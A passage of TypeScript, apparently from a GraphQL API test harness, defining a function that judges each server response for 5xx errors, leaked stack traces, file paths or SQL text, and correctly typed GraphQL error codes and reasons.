  /** `extensions.code` of each error, or `HTTP_<status>` for a non-GraphQL refusal, or `OK`. */
  codes: string[];
  /** Module reasons (`extensions.reason`) seen. */
  reasons: string[];
  problems: string[];
  /** Whether the body carried `data` with a non-null value. */
  hasData: boolean;
  /** The start of the body, to show with a problem. */
  excerpt: string;
}

/**
 * Judges one response: never 5xx, no stack frames, file paths or SQL text, every GraphQL error with
 * a typed `extensions.code` (never INTERNAL_SERVER_ERROR), BAD_USER_INPUT naming what it is about.
 */
export function judge(status: number, contentType: string, text: string, typedCodes: ReadonlySet<string>, knownReasons: ReadonlySet<string>): Verdict {
  const problems: string[] = [];
  const codes: string[] = [];
  const reasons: string[] = [];
  let hasData = false;
  if (status >= 500) problems.push(`HTTP ${status}`);
  const head = text;
  if (STACK.test(head)) problems.push('stack trace in the response');
  if (PATHS.test(head)) problems.push(`file path in the response: ${head.match(PATHS)![0]}`);
  if (SQL.test(head)) problems.push(`SQL or internal error text in the response: ${head.match(SQL)![0]}`);
  let body: any;
  if (/json/i.test(contentType)) {
    try {
      body = JSON.parse(text);
    } catch {
      problems.push('a JSON content type with a body that is not JSON');
    }
  }
  const isGraphql = body && typeof body === 'object' && !Array.isArray(body) && ('errors' in body || 'data' in body);
  if (isGraphql) {
    hasData = body.data !== null && body.data !== undefined && Object.values(body.data as object).some((v) => v !== null);
    const errors = (body.errors ?? []) as { message?: unknown; extensions?: Record<string, unknown> }[];
    if (!Array.isArray(errors)) problems.push('errors is not a list');
    for (const e of Array.isArray(errors) ? errors : []) {
      const code = e.extensions?.code;
      if (typeof code !== 'string') {
        problems.push(`an error without extensions.code: ${String(e.message).slice(0, 120)}`);
        continue;
      }
      codes.push(code);
      if (code === 'INTERNAL_SERVER_ERROR') problems.push(`INTERNAL_SERVER_ERROR: ${String(e.message).slice(0, 200)}`);
      else if (!typedCodes.has(code)) problems.push(`untyped code ${code}: ${String(e.message).slice(0, 200)}`);
      const reason = e.extensions?.reason;
      if (typeof reason === 'string') {
        reasons.push(reason);
        if (!knownReasons.has(reason)) problems.push(`unknown reason ${reason}`);
      }
      if (code === 'BAD_USER_INPUT' && !namesField(e)) problems.push(`BAD_USER_INPUT naming no field: ${String(e.message).slice(0, 200)}`);
    }
    if (errors.length === 0) codes.push('OK');
  } else if (status >= 400) {
    codes.push(`HTTP_${status}`);
  } else {
    codes.push(Array.isArray(body) ? 'BATCH_ANSWERED' : `HTTP_${status}`);
  }
  return { status, codes, reasons, problems, hasData, excerpt: text.slice(0, 300) };
}

function namesField(e: { message?: unknown; extensions?: Record<string, unknown> }): boolean {
  if (typeof e.extensions?.field === 'string' && e.extensions.field.length > 0) return true;
  const m = String(e.message ?? '');
  return /\$[A-Za-z_]\w*|Field "[^"]+"|argument "[^"]+"|field "[^"]+"/.test(m);
}
